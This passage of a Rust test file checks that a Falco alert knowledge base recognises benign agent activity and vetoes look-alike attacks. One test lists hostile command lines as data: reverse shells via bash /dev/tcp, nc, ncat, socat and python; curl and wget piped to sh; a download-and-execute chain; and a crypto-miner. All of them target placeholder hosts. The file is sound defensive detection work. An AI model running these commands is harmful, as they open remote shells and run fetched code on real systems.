                "the operator's account opening a shell",
                alert(
                    "Attach/Exec Pod",
                    json!({"ka.user.name": "system:serviceaccount:d8-system:deckhouse",
                           "ka.uri.param[command]": "sh"}),
                ),
            )],
        },
        Case {
            id: "zsh-history-lock-file",
            benign: alert(
                "Delete or rename shell history",
                json!({"proc.cmdline": "zsh", "evt.arg.path": "/root/.zsh_history.LOCK", "evt.type": "unlink"}),
            ),
            attacks: vec![(
                "the history file itself removed",
                alert(
                    "Delete or rename shell history",
                    json!({"proc.cmdline": "rm -f /root/.zsh_history", "evt.arg.path": "/root/.zsh_history"}),
                ),
            )],
        },
        Case {
            id: "shell-writes-own-history-below-root",
            benign: alert(
                "Write below root",
                json!({"proc.name": "zsh", "proc.pname": "sshd", "fd.name": "/root/.zsh_history"}),
            ),
            attacks: vec![(
                "a shell writing another file below /root",
                alert(
                    "Write below root",
                    json!({"proc.name": "bash", "fd.name": "/root/.ssh/authorized_keys"}),
                ),
            )],
        },
        Case {
            id: "configmap-placeholder-aws-key",
            benign: alert(
                "Create/Modify Configmap With Private Credentials",
                json!({"ka.req.configmap.obj": "{\\\"aws_access_key_id\\\":\\\"super-secret\\\"}"}),
            ),
            attacks: vec![
                (
                    "a real-looking access key id",
                    alert(
                        "Create/Modify Configmap With Private Credentials",
                        json!({"ka.req.configmap.obj": "{\"aws_access_key_id\":\"AKIAIOSFODNN7EXAMPL1\"}"}),
                    ),
                ),
                (
                    "a placeholder id beside a secret",
                    alert(
                        "Create/Modify Configmap With Private Credentials",
                        json!({"ka.req.configmap.obj": "{\"aws_access_key_id\":\"x\",\"aws_secret_access_key\":\"wJalrXUtnFEMI\"}"}),
                    ),
                ),
            ],
        },
    ]
}

#[test]
fn every_new_signature_matches_its_benign_example_and_no_look_alike() {
    let kb = kb();
    for case in cases() {
        let got = ids(&kb, &case.benign);
        assert!(
            got.iter().any(|id| id == case.id),
            "{}: the benign example matched {got:?}",
            case.id
        );
        assert!(!case.attacks.is_empty(), "{}: needs a look-alike", case.id);
        for (what, a) in &case.attacks {
            let got = ids(&kb, a);
            assert!(
                !got.iter().any(|id| id == case.id),
                "{}: {what} matched it",
                case.id
            );
        }
    }
}

#[test]
fn every_agent_and_control_plane_signature_has_a_test_case() {
    let kb = kb();
    let tested: Vec<&str> = cases().iter().map(|c| c.id).collect::<Vec<_>>();
    let tested: Vec<String> = tested.iter().map(|s| s.to_string()).collect();
    for s in kb.global_signatures() {
        if matches!(
            s.kind.map(|k| k.as_str()),
            Some("agent") | Some("control-plane") | Some("allowlist")
        ) {
            assert!(
                tested.contains(&s.id),
                "{} has no positive/negative case",
                s.id
            );
        }
    }
}

#[test]
fn attack_evidence_on_the_command_line_vetoes_agent_and_control_plane_signatures() {
    let kb = kb();
    let agent = |cmdline: &str| {
        alert(
            "Contact K8S API Server From Container",
            json!({"proc.name": "fluent-bit", "proc.cmdline": cmdline,
                   "container.image.repository": "fluent/fluent-bit"}),
        )
    };
    // Without evidence the agent is recognised; this is what the vetoes below are measured against.
    assert!(
        ids(&kb, &agent("fluent-bit -c /fluent-bit/etc/fluent-bit.conf"))
            .contains(&"logging-agent-k8s-metadata".to_string())
    );
    for attack in [
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "sh -c curl -s http://203.0.113.9/x.sh | sh",
        "sh -c wget -qO- http://203.0.113.9/i |bash",
        "nc -e /bin/sh 203.0.113.9 4444",
        "ncat 203.0.113.9 4444 -c bash",
        "sh -c echo ZWNobyBoaQ== | base64 -d > /tmp/x",
        "python3 -c import socket,subprocess;s=socket.socket();s.connect(('203.0.113.9',4444))",
        "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "sh -c curl -o /tmp/k http://203.0.113.9/k && chmod +x /tmp/k && /tmp/k",
        "socat tcp:203.0.113.9:4444 exec:/bin/bash",
        "xmrig -o stratum+tcp://pool.example.net:3333",
    ] {
        let got = ids(&kb, &agent(attack));
        assert!(got.is_empty(), "`{attack}` matched {got:?}");
        let v = kb
            .attack_guard()
            .evidence(&agent(attack))
            .unwrap_or_else(|| panic!("`{attack}`: no evidence found"));
        assert_eq!(v.field, "proc.cmdline");
        assert!(!v.means.is_empty());
    }
    // The parent's command line counts too.
    let mut a = agent("fluent-bit");
    a.output_fields.insert(
        "proc.pcmdline".to_string(),
        json!("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    );
    assert!(ids(&kb, &a).is_empty());
    // A control-plane identity does not excuse it either.
    let cp = alert(
        "K8s Secret Created",
        json!({"ka.user.name": "system:kube-controller-manager", "ka.target.namespace": "kube-system",
               "proc.cmdline": "sh -c curl http://203.0.113.9/x | sh"}),
    );
    assert!(ids(&kb, &cp).is_empty(), "{:?}", ids(&kb, &cp));
}

#[test]
fn harmless_pipes_and_test_events_are_not_vetoed() {
    let kb = kb();
    // A pipe into grep or a `|| true` is not attack evidence.
    let calico = alert(
        "Run shell untrusted",
        json!({"proc.name": "sh", "proc.cmdline": "sh -c ip link del calico_tmp_A || true",
               "proc.pname": "calico-node", "container.image.repository": "docker.io/calico/node"}),
    );
    assert!(ids(&kb, &calico).contains(&"calico-tmp-veth".to_string()));
    assert!(kb
        .attack_guard()
        .evidence(&alert(
            "x",
            json!({"proc.cmdline": "sh -c redis-cli info replication | grep master_sync | tr -d x"})
        ))
        .is_none());
    // The event-generator's netcat action carries `nc -e` on purpose; test signatures are not guarded.
    let netcat = alert(
        "Netcat Remote Code Execution in Container",
        json!({"proc.cmdline": "nc -e /bin/sh example.com 22", "proc.pname": "timeout"}),
    );
    assert!(ids(&kb, &netcat).contains(&"event-generator-netcat".to_string()));
}

#[test]
fn every_signature_names_a_source_and_upstream_names_exist_in_the_repository_files() {
    let kb = kb();
    let dir = fa_testdata::upstream_rules_dir();
    let texts: Vec<String> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .map(|p| fa_testdata::read_to_string(&p))
        .collect();
    let names = fa_analyze::lint::upstream_names(texts.iter().map(String::as_str));
    for n in [
        "k8s_containers",
        "user_known_k8s_client_container",
        "falco_privileged_images",
        "known_sa_list",
        "allowed_k8s_users",
        "k8s_audit_never_true",
        "rpm_procs",
        "package_mgmt_procs",
    ] {
        assert!(names.contains(n), "`{n}` is declared upstream");
    }
    let all = kb
        .rules()
        .iter()
        .flat_map(|r| r.signatures.iter())
        .chain(kb.global_signatures().iter());
    let mut upstream = 0;
    for s in all {
        if let SignatureSource::Upstream(n) = &s.source {
            upstream += 1;
            assert!(names.contains(n), "{}: source `{n}` is not upstream", s.id);
        }
    }
    assert!(upstream > 0);
}

fn user_kb(sig: &str) -> Result<KnowledgeBase, String> {
    let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
    std::fs::write(dir.path().join("mine.toml"), sig).map_err(|e| e.to_string())?;
    KnowledgeBase::load(&[dir.path().to_path_buf()]).map_err(|e| e.to_string())
}

const USER_SIG: &str = r#"
[[signature]]
id = "acme-backup-agent"
reason = "Acme's backup agent."
kind = "agent"
SOURCE
[[signature.all]]
field = "container.image.repository"
REGEX
[[signature.all]]
field = "proc.name"
equals = "acme-backup"
"#;

fn user_sig(source: &str, regex: &str) -> String {
    USER_SIG
        .replace("SOURCE", source)
        .replace("REGEX", &format!("regex = '{regex}'"))
}

#[test]
fn lint_rejects_a_signature_without_source_with_an_unknown_macro_or_a_bad_regex() {
    // An existing upstream list and a URL both pass.
    for source in [
        r#"source = "k8s_containers""#,
        r#"source = "https://example.com/acme/backup-agent""#,
    ] {
        let kb = user_kb(&user_sig(source, "^acme/backup$")).unwrap_or_else(|e| panic!("{e}"));
        let findings: Vec<String> = fa_analyze::lint::lint(&kb)
            .iter()
            .map(|f| f.to_string())
            .filter(|f| f.contains("acme-backup-agent"))
            .collect();
        assert!(findings.is_empty(), "{source}: {findings:?}");
    }
    // A macro name that upstream does not declare.
    let kb = user_kb(&user_sig(
        r#"source = "acme_known_backup_agents""#,
        "^acme/backup$",
    ))
    .unwrap_or_else(|e| panic!("{e}"));
    let findings: Vec<String> = fa_analyze::lint::lint(&kb)
        .iter()
        .map(|f| f.to_string())
        .collect();
    assert!(
        findings
            .iter()
            .any(|f| f.contains("acme-backup-agent") && f.contains("acme_known_backup_agents")),
        "{findings:?}"
    );
    // No source at all, a source that is neither a name nor a URL, a regex that does not compile:
    // the knowledge base refuses to load, so `kb lint` fails.
    let missing = user_kb(&user_sig("", "^acme/backup$"))
        .err()
        .unwrap_or_default();
    assert!(missing.contains("source"), "{missing}");
    let prose = user_kb(&user_sig(r#"source = "our wiki""#, "^acme/backup$"))
        .err()
        .unwrap_or_default();
    assert!(prose.contains("our wiki"), "{prose}");
    let bad = user_kb(&user_sig(r#"source = "k8s_containers""#, "^acme/(backup$"))
        .err()
        .unwrap_or_default();
    assert!(bad.contains("regex"), "{bad}");
}
